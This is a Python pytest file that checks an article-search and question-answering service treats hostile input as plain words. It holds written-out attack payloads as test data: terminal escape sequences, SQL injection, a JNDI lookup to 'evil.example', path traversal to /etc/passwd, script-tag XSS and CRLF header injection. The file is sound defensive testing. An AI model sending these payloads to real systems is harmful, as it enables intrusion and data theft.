"""Text that is more than text somewhere: to a terminal, to SQL, to a search engine, to a file system, to a browser."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text

from index.article import Article, Span
from index.embedding import SentenceTransformerEmbedder
from index.library import Library
from index.results import Occurrence
from rag.answer import Citation
from rag.pipeline import QuestionAnswerer
from rag.reader_model import ReaderModel
from service.terminal import TerminalConsole, print_article, print_articles, print_citation, print_occurrences
from tests.conftest import BRIDGE, OWLS
from tests.service.test_http import served

STEERING = "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f\u202etxt.exe\u202c\u2066\u2069\u200f\u2028\U000e0041"
SYNTAX = [
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    "' UNION SELECT * FROM articles --",
    "title:bridge AND (text:*",
    'bridge^10 NEAR/2 "harbour',
    "text:[a TO z] -bridge +owls",
    "bridge~2 /.*/ \\",
    "%",
    "_",
    "\\",
    "*",
    '"',
    "(((((",
    "AND OR NOT",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "\u202e\u200b\u2066 \ufeff?",
    "a" * 2_000,
    "🏳️‍🌈 " * 300,
]


@pytest.fixture(scope="module")
def client(
    tmp_path_factory: pytest.TempPathFactory, reader_model: ReaderModel, embedder: SentenceTransformerEmbedder
) -> Iterator[tuple[httpx.Client, Path]]:
    """A service over two articles, and the folder that its library is in."""
    folder = tmp_path_factory.mktemp("service") / "library"
    library = Library(folder, embedder)
    library.add([BRIDGE, OWLS])
    for one in served(QuestionAnswerer(library, reader_model)):
        yield one, folder
    library.close()


def printed(show: Callable[[TerminalConsole], None]) -> str:
    """What a terminal with colours and links is sent."""
    screen = TerminalConsole(file=io.StringIO(), width=100, force_terminal=True, color_system="truecolor")
    show(screen)
    assert isinstance(screen.file, io.StringIO)
    return screen.file.getvalue()


def assert_steers_nothing(sent: str) -> None:
    """No control that the text brought is left: only colours and links of the console's own making."""
    assert "\x1b[2J" not in sent
    assert "\x1b]0" not in sent
    assert not set(sent) & set(STEERING.replace("\x1b", "").replace("[2J", "")) - set(" 0123456789;[]mtxt.exeowned")


def test_an_article_from_elsewhere_steers_no_terminal() -> None:
    """An article that was never cleaned, in its title, outlet, address and words, is printed with marks instead."""
    article = Article("origin", f"Words. {STEERING} More.", f"A {STEERING} title", STEERING, STEERING, url=STEERING)
    citation = Citation(article, Span(0, len(article.text)))
    for show in (
        lambda screen: print_article(screen, article),
        lambda screen: print_articles(screen, [article]),
        lambda screen: print_citation(screen, 1, citation),
        lambda screen: print_occurrences(screen, [Occurrence(article, Span(0, 5))]),
        lambda screen: screen.print(f"failed: {STEERING}", markup=False),
        lambda screen: screen.print(Text(STEERING, style="bold")),
    ):
        sent = printed(show)
        assert_steers_nothing(sent)
        assert "\ufffd" in sent


@given(st.text(st.characters(codec="utf-8"), max_size=80))
def test_no_words_move_the_cursor_or_reorder_the_line(words: str) -> None:
    """Whatever is printed, what arrives has no control characters but line breaks, and no marks of direction."""
    screen = TerminalConsole(file=io.StringIO(), width=1_000, color_system=None)
    screen.print(Text(words))
    assert isinstance(screen.file, io.StringIO)
    sent = screen.file.getvalue()
    assert not any((char < " " and char not in "\n\t") or "\x7f" <= char <= "\x9f" for char in sent)
    assert not set(sent) & set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def test_markup_and_links_of_an_article_are_its_words() -> None:
    """Rich's markup is shown as it is written, and only pages of the web become links."""
    article = replace(BRIDGE, title="[bold red]Loud[/] [link=http://evil.example]here[/link]")
    citation = Citation(article, Span(0, 20))
    sent = printed(partial(print_citation, number=1, citation=citation))
    assert "[bold red]Loud[/] [link=http://evil.example]here[/link]" in sent
    for url, is_link in (("https://a.example/x", True), ("javascript:alert(1)", False), ("file:///etc/passwd", False)):
        linked = Citation(replace(BRIDGE, url=url), Span(0, 20))
        sent = printed(partial(print_citation, number=1, citation=linked))
        assert ("\x1b]8;" in sent) is is_link
        assert url in sent


@pytest.mark.parametrize("words", SYNTAX, ids=range(len(SYNTAX)))
def test_syntax_in_a_question_is_words(client: tuple[httpx.Client, Path], words: str) -> None:
    """SQL, query languages, templates and paths are asked, searched, filtered by and verified like any words."""
    http, _ = client
    everything = [
        http.post(f"/v1/{route}", json={field: words}) for route, field in (("ask", "question"), ("search", "query"))
    ]
    assert {response.status_code for response in everything} == {200}
    assert http.post("/v1/verify", json={"quote": words}).json() == {"verbatim": False, "citations": []}
    assert http.post("/v1/search", json={"query": "bridge", "sources": [words]}).json() == {"passages": []}
    assert http.get("/v1/articles", params={"source": words}).json() == {"articles": [], "total": 0}
    assert http.get("/v1/articles").json()["total"] == 2


@pytest.mark.parametrize(
    "article_id", ["..%2F..%2Fetc%2Fpasswd", "%25", "____________", "%27%20OR%201=1", "%00", "%0d%0aX-Evil:%201", "*"]
)
def test_syntax_in_an_id_finds_and_deletes_nothing(client: tuple[httpx.Client, Path], article_id: str) -> None:
    """Wildcards, paths and line breaks are no article's id, and reach no header."""
    http, _ = client
    for response in (http.get(f"/v1/articles/{article_id}"), http.delete(f"/v1/articles/{article_id}")):
        assert response.status_code == 404
        assert "x-evil" not in response.headers
    assert http.get("/v1/articles").json()["total"] == 2


def test_titles_ids_and_addresses_name_no_files(client: tuple[httpx.Client, Path]) -> None:
    """Articles with paths for names make no file outside the data folder, and none in it that is named by them."""
    http, folder = client
    outside = sorted(path.name for path in folder.parent.iterdir())
    name = "../../../evil\r\nX-Evil: 1"
    body = {
        "text": "A plain report of the day.",
        "id": name,
        "title": name,
        "url": f"http://a.example/{name}",
        "source": name,
    }
    added = http.post("/v1/articles", json={"articles": [body]})
    assert added.status_code == 200
    (article_id,) = added.json()["added"]
    assert article_id.isalnum()
    stored = http.get(f"/v1/articles/{article_id}")
    assert stored.json()["title"] == "../../../evil X-Evil: 1"
    assert "x-evil" not in stored.headers
    assert sorted(path.name for path in folder.parent.iterdir()) == outside
    assert not [path for path in folder.rglob("*") if "evil" in path.name]
    assert http.delete(f"/v1/articles/{article_id}").status_code == 204


def test_html_in_an_article_is_sent_as_json_that_no_browser_runs(client: tuple[httpx.Client, Path]) -> None:
    """Words that are HTML come back verbatim, under a type that is not HTML, and browsers are told to believe it."""
    http, _ = client
    words = 'The bridge <script>alert("1")</script> opened <img src=x onerror=alert(1)> on Monday.'
    (article_id,) = http.post("/v1/articles", json={"articles": [{"text": words, "title": "<b>x</b>"}]}).json()["added"]
    responses = [
        http.get(f"/v1/articles/{article_id}"),
        http.post("/v1/ask", json={"question": "When did the bridge open?"}),
        http.post("/v1/verify", json={"quote": words}),
        http.get("/v1/articles/<script>alert(1)</script>"),
    ]
    for response in responses:
        assert response.headers["content-type"] in ("application/json", "application/problem+json")
        assert response.headers["x-content-type-options"] == "nosniff"
    assert responses[0].json()["text"] == words
    assert responses[2].json()["verbatim"]
    assert http.delete(f"/v1/articles/{article_id}").status_code == 204


def test_json_keeps_the_words_that_a_terminal_must_not_see(client: tuple[httpx.Client, Path]) -> None:
    """Marks that a cleaned article keeps, such as joiners within words, are in its JSON character for character."""
    http, _ = client
    words = "The na\u200cme of the caf\u00e9 \U0001f468\u200d\U0001f469 is in the report."
    (article_id,) = http.post("/v1/articles", json={"articles": [{"text": words}]}).json()["added"]
    assert http.get(f"/v1/articles/{article_id}").json()["text"] == words
    assert json.loads(http.post("/v1/verify", json={"quote": words}).text)["citations"][0]["cited_text"] == words
    assert http.delete(f"/v1/articles/{article_id}").status_code == 204
